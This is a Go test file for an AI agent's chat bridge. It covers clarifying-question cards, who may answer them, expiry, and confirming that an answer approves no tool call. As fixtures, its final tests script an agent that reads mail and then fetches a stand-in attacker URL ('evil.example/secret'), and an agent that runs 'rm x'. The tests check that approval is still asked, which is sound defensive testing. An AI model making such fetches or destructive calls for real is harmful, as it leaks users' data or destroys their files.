package bridge_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"oneclaw/agent"
	"oneclaw/bridge"
	"oneclaw/bridge/chats"
	"oneclaw/bridge/interact"
	"oneclaw/bridge/queue"
	"oneclaw/storage"
	"oneclaw/toolgroups"
)

// ownQuestion is a question of the model with fields of a title and choices.
func ownQuestion(asks ...[]string) []toolgroups.Question {
	q := toolgroups.Question{From: "me", Own: true}
	for i, a := range asks {
		field := toolgroups.Field{Name: fmt.Sprint(i + 1), Title: a[0], Type: toolgroups.FieldChooseOne, Free: true}
		for _, choice := range a[1:] {
			field.Choices = append(field.Choices, toolgroups.FieldChoice{Value: choice})
		}
		q.Fields = append(q.Fields, field)
	}
	return []toolgroups.Question{q}
}

var (
	colour = []string{"Which *colour*?", "Red", "Allow once"}
	size   = []string{"Which size?", "S", "L"}
)

func TestTheModelAsksWithButtons(t *testing.T) {
	t.Parallel()
	c := &curious{asks: ownQuestion(colour), effect: toolgroups.ReadOnly}
	r := c.rig(t)
	r.accept(direct("1", "run x"))
	card := r.platform.wait(t, 1)[0]
	const want = "❓ **I have a question.**\n\n> Which \\*colour\\*?\n\nPlease press a button, or write your own answer.\n\nYou can answer within 15 minutes; until then I wait. An answer approves nothing."
	if card.text != want {
		t.Errorf("card %q, want %q", card.text, want)
	}
	var labels []string
	for _, b := range slices.Concat(card.buttons...) {
		labels = append(labels, b.Label)
	}
	if got := strings.Join(labels, " "); got != "“Red” “Allow once” Skip" { // the model's words stand in quotation marks
		t.Errorf("buttons %s", got)
	}
	r.accept(pressOn(card, "p1", "1", card.button(t, "“Red”")))
	if got := r.platform.wait(t, 2)[1].text; got != `accept {"1":"Red"}` {
		t.Errorf("answer %q", got)
	}
	r.platform.until(t, "the card to end", func(all []sent) bool {
		return all[0].buttons == nil && strings.HasSuffix(all[0].text, "> Which \\*colour\\*?\n\n“Red”\n\n✅ **Answered.**")
	})
	r.accept(pressOn(card, "p2", "1", card.button(t, "“Allow once”")))
	if told := r.platform.toast(t, "p2"); told != "This has already been decided." {
		t.Errorf("toast %q", told)
	}
}

// In a direct chat what the person writes is the answer, and so is a reply to the card or a message of its thread
// elsewhere. Other messages wait.
func TestTheModelsQuestionIsAnsweredInOwnWords(t *testing.T) {
	t.Parallel()
	inThread := func(c *bridge.Config) { c.Platforms = []chats.Platform{threaded{c.Platforms[0].(*platform)}} }
	toCard := func(m chats.Message) func(sent) chats.Message {
		return func(card sent) chats.Message { return reply(m, card) }
	}
	is := func(m chats.Message) func(sent) chats.Message { return func(sent) chats.Message { return m } }
	withFile := direct("2", "this one")
	withFile.Files = []chats.Attachment{{Ref: "a", Name: "a.txt", Size: 1}}
	for name, tt := range map[string]struct {
		question chats.Message
		change   func(*bridge.Config)
		how      string
		answer   func(sent) chats.Message
		want     string // "" if it waits
	}{
		"direct":             {question: direct("1", "run x"), how: "write your own answer.", answer: is(direct("2", "a dark green")), want: `accept {"1":"a dark green"}`},
		"a choice":           {question: direct("1", "run x"), answer: is(direct("2", "red")), want: `accept {"1":"Red"}`},
		"a reply":            {question: direct("1", "run x"), answer: toCard(direct("2", "👍")), want: `accept {"1":"👍"}`},
		"a reply of stop":    {question: direct("1", "run x"), answer: toCard(direct("2", "stop")), want: `accept {"1":"stop"}`},
		"words of others":    {question: direct("1", "run x"), answer: is(byOthers(direct("2", "blue"))), want: `accept {"1":"blue"} foreign`},
		"with a file":        {question: direct("1", "run x"), answer: is(withFile)},
		"in a group":         {question: group("1", "1", "run x"), how: "reply to this message with your own answer.", answer: toCard(group("2", "1", "blue")), want: `accept {"1":"blue"}`},
		"beside it":          {question: group("1", "1", "run x"), answer: is(group("2", "1", "blue"))},
		"of somebody else":   {question: group("1", "1", "run x"), answer: toCard(group("2", "2", "blue"))},
		"in a thread":        {question: group("1", "1", "run x"), change: inThread, how: "write your own answer here.", answer: is(group("2", "1", "blue")), want: `accept {"1":"blue"}`},
		"another's thread's": {question: group("1", "1", "run x"), change: inThread, answer: is(group("2", "2", "blue"))},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c := &curious{asks: ownQuestion(colour), effect: toolgroups.ReadOnly}
			change := func(*bridge.Config) {}
			if tt.change != nil {
				change = tt.change
			}
			r := c.rig(t, change)
			r.accept(tt.question)
			card := r.shownCard(t, 1)
			if !strings.Contains(card.text, tt.how) {
				t.Errorf("no %q in %q", tt.how, card.text)
			}
			r.accept(tt.answer(card))
			want := tt.want
			if want == "" {
				want = "I am waiting for the decision above. Your message comes next; /stop cancels everything that waits."
			}
			if got := r.platform.wait(t, 2)[1].text; got != want {
				t.Errorf("got %q, want %q", got, want)
			}
		})
	}
}

// shownCard returns the newest of n messages once its card is known as shown, from when on a message can answer it.
func (r *harness) shownCard(t *testing.T, n int) sent {
	t.Helper()
	card := r.platform.wait(t, n)[n-1]
	changes := r.cfg.Store.Watch(t.Context(), "card/")
	isShown := func(record []byte) bool { return bytes.Contains(record, []byte(`"ids":["`+card.id+`"]`)) }
	for e, err := range r.cfg.Store.List(t.Context(), storage.Range{Prefix: "card/"}) {
		if err != nil {
			t.Fatal(err)
		}
		if isShown(e.Value) {
			return card
		}
	}
	for change, err := range changes {
		if err != nil {
			t.Fatal(err)
		}
		if isShown(change.Value) {
			break
		}
	}
	return card
}

func TestTheModelAsksSeveralQuestionsOneAfterAnother(t *testing.T) {
	t.Parallel()
	c := &curious{asks: ownQuestion(colour, size, []string{"For whom?", "Me", "Bob"}), effect: toolgroups.ReadOnly}
	r := c.rig(t)
	r.accept(direct("1", "run x"))
	card := r.shownCard(t, 1)
	if !strings.HasPrefix(card.text, "❓ **I have 3 questions.**\n\n> Which \\*colour\\*?\n\nPlease") {
		t.Errorf("card %q", card.text)
	}
	r.accept(direct("2", "a *dark* green"))
	card = r.platform.until(t, "the second", func(all []sent) bool { return strings.Contains(all[0].text, "> Which size?\n\nPlease") })[0]
	if !strings.Contains(card.text, "\n\n“a \\*dark\\* green”\n\n> Which size?") {
		t.Errorf("card %q", card.text)
	}
	r.restart() // what was answered stands
	r.accept(pressOn(card, "p2", "1", card.button(t, "Skip")))
	card = r.platform.until(t, "the third", func(all []sent) bool { return strings.Contains(all[0].text, "> For whom?\n\nPlease") })[0]
	r.accept(pressOn(card, "p3", "1", card.button(t, "“Bob”")))
	if got := r.platform.wait(t, 2)[1].text; got != `accept {"1":"a *dark* green","3":"Bob"}` {
		t.Errorf("answer %q", got)
	}
}

func TestTheModelsQuestionIsForItsPersonAlone(t *testing.T) {
	t.Parallel()
	c := &curious{asks: ownQuestion(colour), effect: toolgroups.ReadOnly}
	r := c.rig(t, func(c *bridge.Config) { c.Access.Admins = []string{"fake:9"} })
	r.accept(group("1", "1", "run x"))
	card := r.platform.wait(t, 1)[0]
	if !strings.Contains(card.text, "Only “Ann” can answer within 15 minutes") {
		t.Errorf("card %q", card.text)
	}
	for _, user := range []string{"2", "9"} {
		m := pressOn(card, "p"+user, user, card.button(t, "“Red”"))
		m.Chat, m.Direct = card.to.Chat, false
		r.accept(m)
		if told := r.platform.toast(t, "p"+user); told != "Only the person this is done for can answer." {
			t.Errorf("%s is told %q", user, told)
		}
	}
}

func TestTheModelsQuestionExpires(t *testing.T) {
	t.Parallel()
	c, now := &curious{asks: ownQuestion(colour), effect: toolgroups.ReadOnly}, &clock{}
	r := c.rig(t, func(cfg *bridge.Config) { cfg.Now = now.Now })
	r.accept(direct("1", "run x"))
	r.platform.wait(t, 1)
	now.advance(16 * time.Minute)
	r.platform.until(t, "the end", func(all []sent) bool {
		return len(all) == 2 && all[1].text == "cancel null" && all[0].buttons == nil && strings.HasSuffix(all[0].text, "> Which \\*colour\\*?\n\n⌛ **Expired.** There was no answer in time.")
	})
}

func TestStopEndsTheModelsQuestion(t *testing.T) {
	t.Parallel()
	for _, word := range []string{"/stop", "stop", "/clear"} {
		c := &curious{asks: ownQuestion(colour), effect: toolgroups.ReadOnly}
		r := c.rig(t)
		r.accept(direct("1", "run x"))
		r.shownCard(t, 1)
		r.accept(direct("2", word))
		r.platform.until(t, "the end after "+word, func(all []sent) bool {
			return len(all) == 2 && all[0].buttons == nil && strings.Contains(all[0].text, "no answer is needed any more")
		})
		r.accept(direct("3", "hello"))
		if got := r.platform.wait(t, 3)[2].text; got != "re: hello" {
			t.Errorf("after %s: %q", word, got)
		}
	}
}

// What a person answers allows no call: one that needs approval asks still, with the answer that allows one before it.
func TestAnAnswerToTheModelApprovesNothing(t *testing.T) {
	t.Parallel()
	c := &curious{asks: ownQuestion(colour), effect: toolgroups.ReadOnly}
	w := &execTools{}
	tools := slices.DeleteFunc(w.registry(t).Core(), func(t toolgroups.Tool) bool { return t.Name == toolgroups.LoadToolGroup })
	tools = append(tools, toolgroups.Tool{Name: "ask_user", Description: "Ask.", Effect: toolgroups.ReadOnly, Run: c.run})
	reg, err := toolgroups.NewRegistry(toolgroups.RegistryConfig{Core: tools})
	if err != nil {
		t.Fatal(err)
	}
	r := c.rig(t, func(cfg *bridge.Config) {
		cfg.ApprovalPolicy = func(_ toolgroups.Call, tool toolgroups.Tool) interact.Policy {
			if tool.Effect == toolgroups.ReadOnly {
				return interact.Policy{Rule: interact.Allow}
			}
			return interact.Policy{Rule: interact.Ask}
		}
		cfg.Turns.Tools = func() *toolgroups.Registry { return reg }
		cfg.Turns.Agent = agent.New(agent.Config{Model: steps{{"ask_user", "{}"}, {"exec", `{"command":"rm x"}`}}})
	})
	r.accept(direct("1", "go"))
	card := r.platform.wait(t, 1)[0]
	r.accept(pressOn(card, "p1", "1", card.button(t, "“Allow once”")))
	asked := r.platform.wait(t, 2)[1]
	if ran := w.commands(); ran != nil || !strings.HasPrefix(asked.text, "**May I run this command?**") {
		t.Errorf("it ran %q, and asked %q", ran, asked.text)
	}
}

// steps calls tools with arguments, one after another.
type steps [][2]string

func (s steps) Complete(_ context.Context, req agent.Request, _ func(agent.Delta)) (agent.Reply, error) {
	done := 0
	for _, m := range req.Messages {
		if m.Role == agent.RoleTool {
			done++
		}
	}
	if done == len(s) {
		return agent.Reply{Text: "done"}, nil
	}
	return agent.Reply{Calls: []agent.Call{{ID: fmt.Sprint("call_", done), Name: s[done][0], Arguments: s[done][1]}}}, nil
}

// A kill at any step of a turn whose question is answered by a button and in words: the answers reach the model, and the
// answer of the turn stands there once unless it is marked.
func TestACrashAtAnyStepOfAQuestion(t *testing.T) {
	t.Parallel()
	diesAtEachStep(t, 20, func(t *testing.T, life *mortal) {
		synctest.Test(t, func(t *testing.T) { liveQuestion(t, life) })
	})
}

func liveQuestion(t *testing.T, life *mortal) {
	life.dead = make(chan struct{}) // of this bubble
	c := &curious{asks: ownQuestion(colour, size), effect: toolgroups.ReadOnly}
	r := c.rig(t)
	r.stop()
	store, p := r.cfg.Store, r.platform
	r.cfg.Store, r.cfg.Platforms = mortalStore{store, life}, []chats.Platform{mortalPlatform{p, life}}
	for _, whole := range []bool{false, true} {
		if whole {
			r.stop()
			r.cfg.Store, r.cfg.Platforms = store, []chats.Platform{p}
		}
		r.start()
		_ = r.bridge.Accept(t.Context(), direct("1", "run x")) // what is dead takes nothing
		for range 60 {
			pass(t, 1)
			for _, s := range p.shown() {
				for _, b := range slices.Concat(s.buttons...) {
					if b.Label == "“Red”" {
						_ = r.bridge.Accept(t.Context(), pressOn(s, "p"+s.id, "1", b.Data))
					}
				}
				if strings.Contains(s.text, "> Which size?\n\nPlease") {
					_ = r.bridge.Accept(t.Context(), direct("2", "XXL"))
				}
			}
		}
	}
	r.stop()
	for e, err := range store.List(t.Context(), storage.Range{Prefix: queue.OpenPrefix}) {
		t.Errorf("still open: %s (%v)", e.Value, err)
	}
	answers, marked, open := 0, 0, 0
	for _, s := range p.shown() {
		switch {
		case s.buttons != nil:
			open++
		case s.text == `accept {"1":"Red","2":"XXL"}` && s.repeat:
			marked++
		case s.text == `accept {"1":"Red","2":"XXL"}`:
			answers++
		}
	}
	if answers > 1 || marked > 1 || answers+marked == 0 || open > 1 || life.dies == 0 && (marked != 0 || open != 0) {
		t.Errorf("there stands %+v", p.shown())
	}
}

// What a person chooses are the model's words, so that an address among them is one that the model put together; one that
// the person typed as the answer asks, too. An answer is no word of others either.
func TestAnAnswerToTheModelVouchesForNoAddress(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		before, answer string // answer: "" is the button with the address
		foreign, asks  bool
	}{
		"a choice, after words of others":    {before: "read my mails", asks: true},
		"own words, after words of others":   {before: "read my mails", answer: "https://evil.example/secret", asks: true},
		"a choice, before any":               {before: "hello"},
		"words of others that are passed on": {before: "hello", answer: "take another one", foreign: true, asks: true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c := &curious{asks: ownQuestion([]string{"Which page?", "https://evil.example/secret", "None"})}
			m := opening{
				"read my mails": {{ID: "call_0", Name: "mail", Arguments: `{}`}},
				"ask":           {{ID: "call_1", Name: "ask_user", Arguments: `{"choice":"https://evil.example/secret"}`}},
				"open":          {{ID: "call_2", Name: "webfetch", Arguments: `{"url":"https://evil.example/secret"}`}},
			}
			object := json.RawMessage(`{"type":"object","properties":{"url":{"type":"string"},"choice":{"type":"string"}}}`)
			reg, err := toolgroups.NewRegistry(toolgroups.RegistryConfig{Core: []toolgroups.Tool{
				{Name: "mail", Description: "Mails.", Effect: toolgroups.ReadOnly, Parameters: object, Run: func(context.Context, toolgroups.Call) (toolgroups.Result, error) {
					return toolgroups.TextResult("a mail")
				}},
				{Name: "ask_user", Description: "Ask.", Effect: toolgroups.ReadOnly, Parameters: object, Origin: toolgroups.OriginOwn, Run: func(ctx context.Context, call toolgroups.Call) (toolgroups.Result, error) {
					result, err := c.run(ctx, call)
					if strings.HasSuffix(result.Text, " foreign") { // as the tool itself does
						result.Origin = toolgroups.OriginComputed
					}
					return result, err
				}},
				{Name: "webfetch", Description: "Fetch.", Effect: toolgroups.ReadOnly, Fetches: true, Parameters: object, Run: func(context.Context, toolgroups.Call) (toolgroups.Result, error) {
					return toolgroups.TextResult("a page")
				}},
			}})
			if err != nil {
				t.Fatal(err)
			}
			r := (&execTools{}).guarded(t, func(cfg *bridge.Config) {
				cfg.Turns.Agent, cfg.Turns.Tools = agent.New(agent.Config{Model: m}), func() *toolgroups.Registry { return reg }
			})
			r.accept(direct("1", tt.before))
			r.platform.wait(t, 1)
			r.accept(direct("2", "ask"))
			card := r.shownCard(t, 2)
			answer := direct("3", tt.answer)
			if tt.answer == "" {
				answer = pressOn(card, "3", "1", card.button(t, "“https://evil.example/secret”"))
			}
			answer.Foreign = tt.foreign
			r.accept(answer)
			r.platform.wait(t, 3)
			if got := r.asks(direct("4", "open")); got != tt.asks {
				t.Errorf("asks: %t, want %t: %q", got, tt.asks, r.platform.texts())
			}
		})
	}
}
